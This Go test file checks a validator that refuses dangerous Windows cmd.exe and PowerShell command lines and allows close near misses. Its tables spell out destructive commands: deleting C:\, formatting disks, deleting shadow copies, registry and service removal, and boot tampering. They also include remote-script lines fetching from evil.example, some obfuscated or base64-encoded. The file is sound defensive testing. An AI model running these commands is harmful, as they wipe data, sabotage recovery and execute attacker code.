package validate_test

import (
	"encoding/base64"
	"encoding/binary"
	"testing"
	"unicode/utf16"

	"github.com/rigout/rigout/validate"
)

func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, r := range u {
		binary.LittleEndian.PutUint16(b[2*i:], r)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// TestCheckCmd: cmd.exe lines refused with their rule, and near misses
// allowed ("" rule).
func TestCheckCmd(t *testing.T) {
	for _, tc := range []struct{ line, rule string }{
		{`rmdir /s /q C:\`, validate.RuleRecursiveDeleteRoot},
		{`rd /S /Q c:\`, validate.RuleRecursiveDeleteRoot},
		{`rd /s/q "C:\Program Files"`, validate.RuleRecursiveDeleteRoot},
		{`rmdir /s /q %SystemRoot%`, validate.RuleRecursiveDeleteRoot},
		{`rmdir /s /q %USERPROFILE%`, validate.RuleRecursiveDeleteRoot},
		{`rmdir /s /q %FOO%`, validate.RuleRecursiveDeleteRoot},
		{`rmdir /s /q D:\`, validate.RuleRecursiveDeleteRoot},
		{`rmdir /s /q C:\Users\alice`, validate.RuleRecursiveDeleteRoot},
		{`cd build && rmdir /s /q \`, validate.RuleRecursiveDeleteRoot},
		{`del /s /q C:\*`, validate.RuleRecursiveDeleteRoot},
		{`del /f /s /q C:\Windows\System32\*.*`, validate.RuleRecursiveDeleteRoot},
		{`del /s /q C:\`, validate.RuleRecursiveDeleteRoot},
		{`erase /q C:\Windows\*`, validate.RuleRecursiveDeleteRoot},
		{`del C:\Windows\System32\config\SAM`, validate.RuleCriticalFileWrite},
		{`@echo off & del /s /q C:\Users\*`, validate.RuleRecursiveDeleteRoot},
		{`r^d /s /q C:\`, validate.RuleRecursiveDeleteRoot},
		{`C:\Windows\System32\cmd.exe /c "rmdir /s /q C:\"`, validate.RuleRecursiveDeleteRoot},
		{`cmd /c rd /s /q C:\Windows`, validate.RuleRecursiveDeleteRoot},
		{`format c:`, validate.RuleDiskFormat},
		{`format D: /FS:NTFS /Q /Y`, validate.RuleDiskFormat},
		{`FORMAT.COM c: /q`, validate.RuleDiskFormat},
		{`diskpart /s wipe.txt`, validate.RuleDiskFormat},
		{`echo clean | diskpart`, validate.RuleDiskFormat},
		{`cipher /w:C:\`, validate.RuleDiskFormat},
		{`reg delete HKLM\SYSTEM\CurrentControlSet\Services\foo /f`, validate.RuleRegistryDelete},
		{`reg delete "HKEY_LOCAL_MACHINE\SOFTWARE" /f`, validate.RuleRegistryDelete},
		{`reg delete HKCU /f`, validate.RuleRegistryDelete},
		{`sc delete wuauserv`, validate.RuleServiceDelete},
		{`sc.exe \\localhost delete wuauserv`, validate.RuleServiceDelete},
		{`bcdedit /set {default} recoveryenabled no`, validate.RuleBootConfig},
		{`bcdedit /delete {current}`, validate.RuleBootConfig},
		{`vssadmin delete shadows /all /quiet`, validate.RuleShadowCopyDelete},
		{`vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB`, validate.RuleShadowCopyDelete},
		{`wmic shadowcopy delete`, validate.RuleShadowCopyDelete},
		{`wbadmin delete catalog -quiet`, validate.RuleShadowCopyDelete},
		{`shutdown /s /t 0`, validate.RulePowerState},
		{`shutdown -r -f`, validate.RulePowerState},
		{`net user bob /delete`, validate.RuleAccountTamper},
		{`takeown /f C:\Windows /r /d y`, validate.RuleRecursiveChmodRoot},
		{`icacls C:\ /grant Everyone:F /t`, validate.RuleRecursiveChmodRoot},
		{`move C:\Windows C:\old`, validate.RuleMoveRoot},
		{`mshta http://evil.example/x.hta`, validate.RuleRemoteScript},
		{`powershell -c "iex (iwr https://evil.example/x.ps1)"`, validate.RuleRemoteScript},
		{`powershell -NoProfile -ExecutionPolicy Bypass -Command "Remove-Item C:\ -Recurse -Force"`, validate.RuleRecursiveDeleteRoot},
		{`powershell -enc ` + encodePS(`Remove-Item -Path C:\Windows -Recurse -Force`), validate.RuleRecursiveDeleteRoot},
		{`start "" /b rd /s /q C:\`, validate.RuleRecursiveDeleteRoot},
		{`echo "unterminated`, validate.RuleParseError},

		{`rmdir /s /q build`, ""},
		{`rd /s /q .\build`, ""},
		{`rmdir /s /q C:\work\build`, ""},
		{`rmdir C:\`, ""},
		{`rmdir /s /q "C:\Users\alice\project\node_modules"`, ""},
		{`dir /s`, ""},
		{`dir /s C:\`, ""},
		{`del /q *.tmp`, ""},
		{`del /s /q build\*.obj`, ""},
		{`del /q C:\Users\alice\AppData\Local\Temp\x.txt`, ""},
		{`reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion`, ""},
		{`reg delete HKCU\Software\MyApp /f`, ""},
		{`sc query wuauserv`, ""},
		{`sc stop spooler`, ""},
		{`bcdedit /enum`, ""},
		{`bcdedit`, ""},
		{`vssadmin list shadows`, ""},
		{`shutdown /a`, ""},
		{`echo format c: is dangerous`, ""},
		{`findstr /s /i "format" *.txt`, ""},
		{`net user bob`, ""},
		{`icacls C:\work\build /grant Users:M /t`, ""},
		{`move build\a.txt build\b.txt`, ""},
		{`cmd /c "dir /s & echo done"`, ""},
		{`powershell -c "Get-ChildItem C:\ -Recurse"`, ""},
		{`type C:\Windows\System32\drivers\etc\hosts`, ""},
		{`ipconfig /all && whoami`, ""},
	} {
		d := validate.CheckCmd(tc.line)
		switch {
		case tc.rule == "" && !d.Allowed:
			t.Errorf("CheckCmd(%q) = %s; want allowed", tc.line, d)
		case tc.rule != "" && (d.Allowed || d.Rule != tc.rule):
			t.Errorf("CheckCmd(%q) = %s; want refused by %s", tc.line, d, tc.rule)
		}
	}
}

// TestCheckPowerShell: PowerShell lines refused with their rule, and near
// misses allowed ("" rule).
func TestCheckPowerShell(t *testing.T) {
	for _, tc := range []struct{ line, rule string }{
		{`Remove-Item -Recurse -Force C:\`, validate.RuleRecursiveDeleteRoot},
		{`Remove-Item C:\ -Recurse -Force`, validate.RuleRecursiveDeleteRoot},
		{`remove-item -path 'C:\Windows' -recurse`, validate.RuleRecursiveDeleteRoot},
		{`rm -r -fo $env:SystemRoot`, validate.RuleRecursiveDeleteRoot},
		{`rm -Recurse ${env:ProgramFiles}`, validate.RuleRecursiveDeleteRoot},
		{`ri C:\* -Recurse`, validate.RuleRecursiveDeleteRoot},
		{`Remove-Item $HOME -Recurse -Force`, validate.RuleRecursiveDeleteRoot},
		{`Remove-Item ~ -Recurse`, validate.RuleRecursiveDeleteRoot},
		{`Remove-Item $dir -Recurse`, validate.RuleRecursiveDeleteRoot},
		{`Get-ChildItem C:\ -Recurse | Remove-Item -Force`, validate.RuleRecursiveDeleteRoot},
		{`gci D:\ -r | rm -fo`, validate.RuleRecursiveDeleteRoot},
		{`if ($true) { Remove-Item C:\Users -Recurse }`, validate.RuleRecursiveDeleteRoot},
		{`rd /s /q C:\`, validate.RuleRecursiveDeleteRoot},
		{`Remove-Item C:\Windows\System32\config\SAM -Force`, validate.RuleCriticalFileWrite},
		{`iex (iwr https://evil.example/x.ps1)`, validate.RuleRemoteScript},
		{`Invoke-Expression (Invoke-WebRequest -Uri https://evil.example/x.ps1).Content`, validate.RuleRemoteScript},
		{`IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')`, validate.RuleRemoteScript},
		{`irm https://get.example/install.ps1 | iex`, validate.RuleRemoteScript},
		{`& ([scriptblock]::Create((irm https://evil.example/x)))`, validate.RuleRemoteScript},
		{`iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b)))`, validate.RuleRemoteScript},
		{`Stop-Computer -Force`, validate.RulePowerState},
		{`Restart-Computer`, validate.RulePowerState},
		{`shutdown.exe /r /t 0`, validate.RulePowerState},
		{`Format-Volume -DriveLetter C`, validate.RuleDiskFormat},
		{`Get-Disk 1 | Clear-Disk -RemoveData`, validate.RuleDiskFormat},
		{`Remove-Partition -DriveLetter D`, validate.RuleDiskFormat},
		{`Remove-Item -Path HKLM:\SOFTWARE\Foo -Recurse`, validate.RuleRegistryDelete},
		{`Remove-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control' -Name X`, validate.RuleRegistryDelete},
		{`Remove-Service -Name spooler`, validate.RuleServiceDelete},
		{`sc.exe delete spooler`, validate.RuleServiceDelete},
		{`Remove-LocalUser -Name bob`, validate.RuleAccountTamper},
		{`Get-WmiObject Win32_ShadowCopy | Remove-WmiObject`, validate.RuleShadowCopyDelete},
		{`vssadmin delete shadows /all /quiet`, validate.RuleShadowCopyDelete},
		{`bcdedit /set safeboot minimal`, validate.RuleBootConfig},
		{`cmd /c "format c: /q"`, validate.RuleDiskFormat},
		{`Write-Host 'unterminated`, validate.RuleParseError},

		{`Remove-Item .\tmp -Recurse`, ""},
		{`Remove-Item .\tmp -Recurse -Force`, ""},
		{`Remove-Item C:\work\build -Recurse -Force`, ""},
		{`Remove-Item C:\Users\alice\project\bin -Recurse`, ""},
		{`Remove-Item C:\temp\x.txt`, ""},
		{`Remove-Item -Path .\out -Filter *.tmp -Recurse`, ""},
		{`Get-ChildItem C:\ -Recurse -Filter *.log`, ""},
		{`gci C:\work -r | rm`, ""},
		{`iwr https://example.com/file.zip -OutFile file.zip`, ""},
		{`Invoke-RestMethod https://api.example.com/status`, ""},
		{`Get-Service spooler | Stop-Service`, ""},
		{`sc out.txt 'hello'`, ""},
		{`Get-ItemProperty HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion`, ""},
		{`Remove-Item HKCU:\Software\MyApp -Recurse`, ""},
		{`Get-Volume; Get-Disk`, ""},
		{`Write-Output "Stop-Computer is refused"`, ""},
		{`Get-Process | Where-Object { $_.CPU -gt 10 }`, ""},
	} {
		d := validate.CheckPowerShell(tc.line)
		switch {
		case tc.rule == "" && !d.Allowed:
			t.Errorf("CheckPowerShell(%q) = %s; want allowed", tc.line, d)
		case tc.rule != "" && (d.Allowed || d.Rule != tc.rule):
			t.Errorf("CheckPowerShell(%q) = %s; want refused by %s", tc.line, d, tc.rule)
		}
	}
}

// FuzzCheckWindows: neither check panics, and a refusal always names a rule.
func FuzzCheckWindows(f *testing.F) {
	for _, s := range []string{`rmdir /s /q C:\`, `Remove-Item C:\ -Recurse`, `iex (iwr x)`, `cmd /c "a ^& b"`, `$(`, `%`, "`"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, d := range []validate.Decision{validate.CheckCmd(s), validate.CheckPowerShell(s)} {
			if !d.Allowed && d.Rule == "" {
				t.Errorf("%q refused without a rule: %+v", s, d)
			}
		}
	})
}
